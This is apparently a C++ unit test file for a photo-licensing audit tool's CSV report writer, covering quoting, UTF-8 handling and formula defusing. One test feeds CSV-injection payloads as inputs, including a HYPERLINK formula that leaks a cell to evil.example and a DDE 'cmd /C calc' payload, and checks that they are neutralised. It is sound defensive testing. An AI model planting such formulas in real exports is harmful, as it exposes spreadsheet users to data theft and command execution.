// write_csv_report: RFC 4180 CSV in UTF-8 for legal teams, one row per image and finding, safe in spreadsheets.
#include <catch2/catch.hpp>

#include <algorithm>
#include <filesystem>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "audit/report_samples.hpp"
#include "photoaudit/audit/report_writers.hpp"
#include "support/run_binary.hpp"

namespace {

using photoaudit::audit::AuditReport;
using photoaudit::audit::Severity;
using Rows = std::vector<std::vector<std::string>>;

std::string csv_of(const AuditReport& report) {
  std::ostringstream out;
  photoaudit::audit::write_csv_report(out, report);
  return out.str();
}

// Parses the CSV with Python's csv module (an independent RFC 4180 reader), decoding strictly as UTF-8.
Rows parse_with_python(const std::string& csv) {
  const auto dir = photoaudit::test::fresh_temp_dir("csv");
  const auto file = dir / "report.csv";
  photoaudit::test::write_text_file(file, csv);
  const auto run = photoaudit::test::run_program(
      "python3",
      {"-c",
       "import csv,json,sys; "
       "print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8', errors='strict')))))",
       file.string()});
  std::filesystem::remove_all(dir);
  INFO(run.err);
  REQUIRE(run.exit_code == 0);
  return nlohmann::json::parse(run.out).get<Rows>();
}

const std::vector<std::string> kHeader = {
    "path",          "severity", "rule",         "message",        "credit",     "organizations",
    "photographers", "licensor", "contract",     "license_status", "sha256",     "pdq",
    "cluster",       "error",    "verdict",      "page",           "page_title", "date_created",
    "copyright",     "caption",  "verdict_date", "contract_note"};

}  // namespace

TEST_CASE("CSV report: header, one row per finding, one row for an image without findings", "[csv]") {
  const AuditReport report = photoaudit::test::sample_report(false);
  const std::string csv = csv_of(report);
  CHECK(
      csv.starts_with("path,severity,rule,message,credit,organizations,photographers,licensor,contract,"
                      "license_status,sha256,pdq,cluster,error,verdict,page,page_title,date_created,copyright,caption,"
                      "verdict_date,contract_note\r\n"));
  CHECK(csv.ends_with("\r\n"));
  const Rows rows = parse_with_python(csv);
  REQUIRE_FALSE(rows.empty());
  CHECK(rows[0] == kHeader);
  for (const auto& row : rows) CHECK(row.size() == kHeader.size());

  std::size_t expected = 0;
  for (const auto& image : report.images) expected += std::max<std::size_t>(1, image.findings.size());
  REQUIRE(rows.size() == 1 + expected);

  // Images and findings in report order: the clean photo first, with one row and an empty rule.
  const std::vector<std::string> first(rows[1].begin(), rows[1].begin() + 17);
  CHECK(first == std::vector<std::string>{"local/motorcycle-dpa.jpg", "", "", "", "Foto: Marcus Brandt/dpa", "dpa",
                                          "Marcus Brandt", "dpa", "dpa-2024", "licensed", std::string(64, 'e'),
                                          std::string(64, 'e'), "", "", "publish", "", ""});
  // The agency photo: three findings, the chain as canonical ids outermost first, in cluster 0.
  std::vector<std::vector<std::string>> parade;
  for (const auto& row : rows) {
    if (row[0] == "moscow/putin-min-aung-hlaing.jpg") parade.push_back(row);
  }
  REQUIRE(parade.size() == 3);
  CHECK(parade[0][1] == "error");
  CHECK(parade[0][2] == "license-coverage");
  CHECK(parade[1][1] == "warning");
  CHECK(
      parade[1][3] ==
      "The credit line \"© picture alliance / ASSOCIATED PRESS | Valery Sharifulin\" is not in the required form: the "
      "contract pa-editorial-2024 with picture alliance requires the form \"{licensor} / {agency}\" (here: \"picture "
      "alliance / AP\").");
  CHECK(parade[2][1] == "info");
  CHECK(parade[0][4] == "© picture alliance / ASSOCIATED PRESS | Valery Sharifulin");
  CHECK(parade[0][5] == "picture-alliance > AP");
  CHECK(parade[0][6] == "Valery Sharifulin");
  CHECK(parade[0][12] == "0");
  // The unreadable file: its error in the error column, no fingerprints.
  const auto& broken = rows.back();
  CHECK(broken[0] == "inbox/truncated.jpg");
  CHECK(broken[2] == "metadata-unreadable");
  CHECK(broken[10].empty());
  CHECK(broken[13] == "inbox/truncated.jpg: truncated JPEG (no end-of-image marker)");
}

TEST_CASE("CSV report quotes per RFC 4180 and keeps UTF-8 valid", "[csv]") {
  AuditReport report;
  photoaudit::audit::ImageAudit image;
  image.display = "a,b/\"quoted\" name.jpg";
  image.credit.text = "Line one\r\nline two, with comma";
  image.credit.photographers = {"Zoë Müller", "Jürgen \"Jo\" Schmidt"};
  image.credit.chain = {{"Agence France-Presse", "AFP"}, {"Unknown Agency", ""}};
  static constexpr char kRaw[] = "bad bytes: \xff\xc0\x80 and a NUL \0 here";
  image.error = std::string(kRaw, sizeof kRaw - 1);
  image.findings = {{.rule = photoaudit::registry::Rule::kCreditConflict,
                     .severity = Severity::kWarning,
                     .detail = photoaudit::registry::BlockReadings{{{"iptc", "AP"}, {"xmp", "dpa"}}}}};
  report.images = {image};
  const std::string csv = csv_of(report);
  CHECK(csv.find("\"a,b/\"\"quoted\"\" name.jpg\"") != std::string::npos);
  const Rows rows = parse_with_python(csv);
  REQUIRE(rows.size() == 2);
  const auto& row = rows[1];
  CHECK(row[0] == "a,b/\"quoted\" name.jpg");
  CHECK(row[3] == "The metadata blocks name different sources: IPTC says \"AP\", XMP says \"dpa\".");
  CHECK(row[4] == "Line one\r\nline two, with comma");
  CHECK(row[5] == "AFP > Unknown Agency");
  CHECK(row[6] == "Zoë Müller; Jürgen \"Jo\" Schmidt");
  // Invalid bytes and the NUL become U+FFFD: Python's strict UTF-8 decoding above accepted the file.
  CHECK(row[13] == "bad bytes: \xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd and a NUL \xef\xbf\xbd here");
}

TEST_CASE("CSV report defuses spreadsheet formulas (CSV injection)", "[csv]") {
  AuditReport report;
  photoaudit::audit::ImageAudit image;
  image.display = "-2+3.jpg";
  image.caption = "not exported";
  image.credit.text = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
  image.credit.photographers = {"+49 40 123", "@SUM(A1:A9)"};
  image.license.licensor = "\tcmd";
  image.license.contract = "\r=1+1";
  image.error = "=cmd|' /C calc'!A0";
  image.findings = {
      {.rule = photoaudit::registry::Rule::kLicenseNone, .severity = Severity::kError, .organization = "@foo"},
      {.rule = photoaudit::registry::Rule::kCreditUnparsed, .severity = Severity::kWarning, .embedded_credit = "a=b"}};
  report.images = {image};
  const Rows rows = parse_with_python(csv_of(report));
  REQUIRE(rows.size() == 3);
  const auto& row = rows[1];
  CHECK(row[0] == "'-2+3.jpg");
  CHECK(row[3] ==
        "'@foo is in the license registry, but the house has no contract with it: do not publish without a "
        "license.");
  CHECK(row[4] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
  CHECK(row[6] == "'+49 40 123; @SUM(A1:A9)");
  CHECK(row[7] == "'\tcmd");
  CHECK(row[8] == "'\r=1+1");
  CHECK(row[13] == "'=cmd|' /C calc'!A0");
  // Only a dangerous first character is touched: a '=' inside a cell stays as it is.
  CHECK(rows[2][3] == "The credit \"a=b\" names no organisation or photographer photoaudit recognises.");
  // No cell of either row starts with a formula character.
  for (std::size_t r = 1; r < rows.size(); ++r) {
    for (const auto& cell : rows[r]) {
      INFO(cell);
      CHECK((cell.empty() || std::string("=+-@\t\r").find(cell.front()) == std::string::npos));
    }
  }
}
